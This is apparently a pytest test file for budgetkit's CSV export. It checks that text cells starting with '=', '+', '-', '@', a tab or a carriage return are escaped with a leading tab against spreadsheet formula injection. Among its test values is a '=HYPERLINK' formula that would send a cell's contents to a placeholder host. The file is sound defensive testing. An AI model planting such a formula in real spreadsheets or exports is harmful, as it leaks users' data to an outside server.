"""Every CSV budgetkit writes runs no formula in a spreadsheet (issue 27 probe 5, OWASP CSV injection).

A text cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is written with a
leading tab (the decision: a tab, not an apostrophe, because readers that normalise whitespace, such as
the shared scorers, must still see the printed value); plain numbers (``-5``, ``-0.5``, ``+3``) and numeric
columns are not touched; Parquet keeps every value as it is; budgetkit's own CSV readers take the escape off.
The expected cells below are written by hand from OWASP's list, not from the code.
"""

from __future__ import annotations

import base64
import csv
import io
import re
from pathlib import Path

import pandas as pd
import pytest

from budgetkit.analyse.links import read_decisions
from budgetkit.cli import main
from budgetkit.model.csvsafe import escape_cell, escape_frame, formula_start, read_csv, unescape_cell
from budgetkit.model.fields import load_fields
from budgetkit.model.tables import write_frames
from budgetkit.report.display import ReadingTable
from conftest import SEED
from render import SHARED, load_tool

#: OWASP's first characters of a formula, by hand (metadata/csv_formula.csv must say the same).
OWASP = ("=", "+", "-", "@", "\t", "\r")
TAB = "\t"

CELLS = [
    pytest.param('=HYPERLINK("http://x.invalid/?q="&A1,"点击")', '\t=HYPERLINK("http://x.invalid/?q="&A1,"点击")',
                 id="formula-hyperlink"),
    pytest.param("=116人", "\t=116人", id="count-printed-with-equals"),
    pytest.param("=100%", "\t=100%", id="percent-printed-with-equals"),
    pytest.param("=", "\t=", id="comparator-equals-alone"),
    pytest.param("@SUM(A1:A9)", "\t@SUM(A1:A9)", id="at-function-call"),
    pytest.param("-5%", "\t-5%", id="minus-percent-is-text"),
    pytest.param("+86 951 1234", "\t+86 951 1234", id="plus-telephone-is-text"),
    pytest.param("-1+2", "\t-1+2", id="minus-arithmetic"),
    pytest.param("-", "\t-", id="dash-placeholder"),
    pytest.param("\t=1+1", "\t\t=1+1", id="leading-tab"),
    pytest.param("\r=1+1", "\t\r=1+1", id="leading-carriage-return"),
    pytest.param("-5", "-5", id="plain-negative-number"),
    pytest.param("-0.5", "-0.5", id="plain-negative-decimal"),
    pytest.param("+3", "+3", id="plain-signed-number"),
    pytest.param("职工困难帮扶", "职工困难帮扶", id="chinese-text"),
    pytest.param("≥95%", "≥95%", id="comparator-sign-not-a-formula"),
    pytest.param("—", "—", id="em-dash-not-minus"),
    pytest.param("100%=", "100%=", id="equals-not-first"),
    pytest.param(-3.5, -3.5, id="float-not-text"),
    pytest.param(None, None, id="missing"),
]


def test_trigger_characters_are_owasps_and_data():
    assert formula_start() == OWASP
    rows = list(csv.DictReader((Path(__file__).parents[1] / "src/budgetkit/metadata/csv_formula.csv")
                               .open(encoding="utf-8")))
    assert {r["role"] for r in rows} == {"formula_start", "escape"}


@pytest.mark.parametrize(("value", "written"), CELLS)
def test_escape_cell(value, written):
    assert escape_cell(value) == written
    assert unescape_cell(escape_cell(value)) == value or value is None


@pytest.mark.parametrize(("value", "written"), CELLS)
def test_a_cell_not_escaped_reads_back_as_it_is(value, written):
    if isinstance(written, str) and not written.startswith(TAB):
        assert unescape_cell(written) == written


def _cells(path: Path) -> list[str]:
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return [c for row in list(csv.reader(fh))[1:] for c in row]


def _would_run(cell: str) -> bool:
    """A cell a spreadsheet runs: starts with an OWASP character, is no plain number, and is not escaped."""
    return (cell.startswith(OWASP) and not cell.startswith(TAB)
            and re.fullmatch(r"[+-]?\d+(\.\d+)?", cell) is None)


def _check_folder(out: Path) -> None:
    """No CSV in ``out`` runs a formula; each CSV's text read back by budgetkit equals its Parquet twin."""
    csvs = sorted(out.glob("*.csv"))
    assert csvs
    for path in csvs:
        running = [c for c in _cells(path) if _would_run(c)]
        assert not running, f"{path.name}: {running[:5]}"
        twin = path.with_suffix(".parquet")
        if not twin.is_file():
            continue
        stored = pd.read_parquet(twin)
        back = read_csv(path, dtype=str, keep_default_na=False)
        for col in stored.columns:
            if pd.api.types.is_object_dtype(stored[col]) or pd.api.types.is_string_dtype(stored[col]):
                want = stored[col].fillna("").astype(str).tolist()
                assert back[col].tolist() == want, f"{path.name}:{col}"


def test_write_frames_escapes_text_not_numbers_and_parquet_keeps_values(tmp_path):
    cases = [p.values for p in CELLS if isinstance(p.values[0], str)]
    values = [value for value, _ in cases]
    frame = pd.DataFrame({"text": values, "n": [-1.5] * len(values)})
    write_frames({"t": frame}, tmp_path)
    with (tmp_path / "t.csv").open(encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert [r["text"] for r in rows] == [written for _, written in cases]
    assert {r["n"] for r in rows} == {"-1.5"}
    assert pd.read_parquet(tmp_path / "t.parquet")["text"].tolist() == values
    _check_folder(tmp_path)


def test_parse_out_writes_no_formula(tmp_path):
    out = tmp_path / "out"
    assert main(["-q", "parse", str(SEED), "--out", str(out)]) == 0
    ops = pd.read_parquet(out / "indicators.parquet")["op"]
    assert (ops == "=").any(), "the seed's values print no comparator: op '=' is text a spreadsheet would run"
    _check_folder(out)


def test_analyse_out_writes_no_formula(tmp_path):
    out = tmp_path / "out"
    assert main(["-q", "analyse", str(SEED), "--out", str(out)]) == 0
    assert {"audit.csv", "costs.csv", "achievement.csv", "indicators.csv"} <= {p.name for p in out.iterdir()}
    _check_folder(out)


def test_field_dictionary_says_so(tmp_path):
    fields = load_fields()
    said = " ".join(fields["description"])
    assert "tab" in said and "formula" in said, "fields.csv says how such a cell is written"
    write_frames({"t": pd.DataFrame({"x": ["=1"]})}, tmp_path)
    assert not [c for c in _cells(tmp_path / "fields.csv") if _would_run(c)]


@pytest.mark.parametrize("rows", [pytest.param(3, id="page-data-uri"), pytest.param(400, id="page-download-file")])
def test_page_downloads_use_the_same_rule(tmp_path, rows):
    values = [p.values[0] for p in CELLS if isinstance(p.values[0], str)]
    values = (values * rows)[:max(rows, len(values))]
    page = ReadingTable(pd.DataFrame({"indicator": values}), "indicators", name="t",
                        downloads=tmp_path / "csv").to_html()
    found = re.search(r'href="data:text/csv;charset=utf-8;base64,([^"]+)"', page)
    raw = (base64.b64decode(found.group(1)).decode("utf-8") if found
           else (tmp_path / "csv/t.csv").read_text(encoding="utf-8"))
    cells = [c for row in list(csv.reader(io.StringIO(raw.lstrip("\ufeff"), newline="")))[1:] for c in row]
    assert cells == [escape_cell(v) for v in values]
    assert not [c for c in cells if _would_run(c)]


def test_links_csv_read_back_without_the_escape(tmp_path):
    links = pd.DataFrame({"from_id": ["=a#01"], "to_id": ["-b#02"], "decision": ["confirm"], "note": ["=对"]})
    escape_frame(links).to_csv(tmp_path / "links.csv", index=False, encoding="utf-8-sig")
    assert read_decisions(tmp_path / "links.csv").to_dict("records") == links.to_dict("records")


def test_shared_scorer_reads_escaped_values_as_printed():
    scorer = SHARED / "tools" / "score_corpus.py"
    if not scorer.is_file():
        pytest.skip(f"no shared scorer at {scorer}")
    norm = load_tool(scorer).norm
    for p in CELLS:
        value, written = p.values
        if isinstance(value, str):
            assert norm(written) == norm(value), p.id


@pytest.mark.parametrize("value", [
    pytest.param("第一行\r第二行", id="lone-carriage-return"),
    pytest.param("第一行\r\n第二行", id="crlf-inside"),
    pytest.param("第一行\n第二行", id="line-feed-inside"),
    pytest.param("\r≥95%", id="carriage-return-first"),
    pytest.param("末尾\r", id="carriage-return-last"),
    pytest.param('引号"\r"', id="quote-and-carriage-return"),
])
def test_a_line_end_inside_a_value_keeps_its_row(tmp_path, value):
    frame = pd.DataFrame({"text": ["甲", value, "=100%"], "n": [1.0, None, -2.0],
                          "date": pd.to_datetime(["2025-12-31", None, "2024-01-01"])})
    write_frames({"t": frame}, tmp_path)
    with (tmp_path / "t.csv").open(encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert [unescape_cell(r["text"]) for r in rows] == ["甲", value, "=100%"]
    back = read_csv(tmp_path / "t.csv")
    assert back["text"].tolist() == ["甲", value, "=100%"]
    assert back["n"].tolist()[::2] == [1.0, -2.0] and pd.isna(back["n"][1])


def test_a_table_without_rows_is_written_with_its_typed_columns(tmp_path):
    # indicators of a table read empty (A09): the date column ``deadline`` holds no value to look into
    write_frames({"indicators": pd.DataFrame()}, tmp_path)
    assert read_csv(tmp_path / "indicators.csv").empty
